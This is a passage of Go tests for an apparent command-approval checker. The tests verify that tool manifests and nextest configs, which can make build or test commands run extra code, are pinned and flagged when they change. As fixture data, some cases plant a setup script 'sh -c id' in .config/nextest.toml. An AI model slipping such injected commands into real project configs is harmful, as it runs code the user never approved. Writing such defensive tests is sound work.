			files: map[string]string{"dotnet-tools.json": manifest},
			rule:  "dotnet cake", reach: []string{"dotnet-tools.json#"},
			change: "dotnet-tools.json", content: strings.Replace(manifest, "4.0.0", "9.9.9", 1)},
	})
	root := runnerProject(t, map[string]string{"build.cake": "Task(\"Test\");\n"})
	p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
	rules := []string{"dotnet tool run dotnet-cake"}
	if v := verdict.NewChecker(rules).CheckIn("dotnet tool run dotnet-cake", p.WithPinned(p.AllDefinitions(rules))); v.Approved || !strings.Contains(v.Reason.String(), "dotnet-tools.json") {
		t.Errorf("dotnet tool run without a manifest: %+v, want it to ask naming the manifest", v)
	}
	for _, rule := range []string{"dotnet build", "dotnet --version", "dotnet test"} {
		if defs, _ := p.Definitions(rule); len(defs) != 0 {
			t.Errorf("%s reaches %s, want no manifest", rule, fixture.Keys(defs))
		}
	}
}

// cargo nextest: its config (.config/nextest.toml) can run commands of its
// own, setup and wrapper scripts; it is pinned whole, absent or not.
func TestDefinitionsOfNextestConfig(t *testing.T) {
	const cargo = "[package]\nname = \"x\"\n"
	runDefinitionCases(t, []runnerCase{
		{name: "config",
			files: map[string]string{"Cargo.toml": cargo, ".config/nextest.toml": "[profile.default]\nretries = 1\n"},
			rule:  "cargo nextest run", reach: []string{".config/nextest.toml#"},
			change: ".config/nextest.toml", content: "[scripts.setup.db]\ncommand = \"sh -c id\"\n"},
		{name: "config added later",
			files: map[string]string{"Cargo.toml": cargo}, rule: "cargo nextest run",
			reach:  []string{".config/nextest.toml#(absent)"},
			change: ".config/nextest.toml", content: "[scripts.setup.db]\ncommand = \"sh -c id\"\n"},
	})
	p := verdict.NewProject(runnerProject(t, map[string]string{"Cargo.toml": cargo}), "", projectfiles.OSGitFS(""), nil)
	if defs, _ := p.Definitions("cargo test"); strings.Contains(fixture.Keys(defs), "nextest") {
		t.Errorf("cargo test reaches %s, want no nextest config", fixture.Keys(defs))
	}
}
